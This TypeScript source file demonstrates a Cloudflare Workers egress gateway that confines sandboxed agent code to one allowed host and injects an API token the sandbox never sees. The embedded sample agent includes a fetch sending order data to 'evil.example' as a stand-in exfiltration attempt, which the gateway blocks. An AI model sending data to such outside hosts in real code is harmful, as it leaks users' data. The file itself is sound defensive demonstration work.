// SPDX-License-Identifier: Apache-2.0
//
// Decides what sandboxed code may say to the outside world. Every `fetch()` of the sandbox arrives at `Gateway`,
// which logs it, lets it through to one host, rewrites its address and adds a credential that the sandbox never sees.

import { WorkerEntrypoint } from "cloudflare:workers";

interface Env {
  LOADER: WorkerLoader;
  SHOP: Fetcher;
  SHOP_TOKEN: string;
}

/** All of the sandbox's traffic. `props` say on whose behalf. */
export class Gateway extends WorkerEntrypoint<Env, { customer: string }> {
  override async fetch(request: Request): Promise<Response> {
    const url = new URL(request.url);
    console.log(`${this.ctx.props.customer}: ${request.method} ${url}`);

    if (url.hostname !== "shop.example") return new Response(`${url.hostname} is not allowed\n`, { status: 403 });

    url.pathname = `/v2${url.pathname}`;
    const outgoing = new Request(url, request);
    outgoing.headers.set("authorization", `Bearer ${this.env.SHOP_TOKEN}`);
    return this.env.SHOP.fetch(outgoing);
  }
}

/** The API that the agent wants to use: knows orders, and wants to see the token. */
export class ShopApi extends WorkerEntrypoint<Env> {
  override async fetch(request: Request): Promise<Response> {
    if (request.headers.get("authorization") !== `Bearer ${this.env.SHOP_TOKEN}`) {
      return new Response("who are you?\n", { status: 401 });
    }
    return Response.json({ path: new URL(request.url).pathname, total: 42 });
  }
}

interface Agent extends Rpc.WorkerEntrypointBranded {
  run(): Promise<unknown>;
}

const agentCode = `
  import { WorkerEntrypoint } from "cloudflare:workers";

  export default class extends WorkerEntrypoint {
    async run() {
      const order = await fetch("https://shop.example/orders/7").then((response) => response.json());
      const elsewhere = await fetch("https://evil.example/?stolen=" + order.total);
      return { order, elsewhere: elsewhere.status, bindings: Object.keys(this.env) };
    }
  }
`;

export default {
  async fetch(_request, env, ctx) {
    const worker = env.LOADER.load({
      compatibilityDate: "2026-11-01",
      mainModule: "agent.js",
      modules: { "agent.js": agentCode },
      globalOutbound: ctx.exports.Gateway({ props: { customer: "acme" } }),
    });
    return Response.json(await worker.getEntrypoint<Agent>().run());
  },
} satisfies ExportedHandler<Env>;
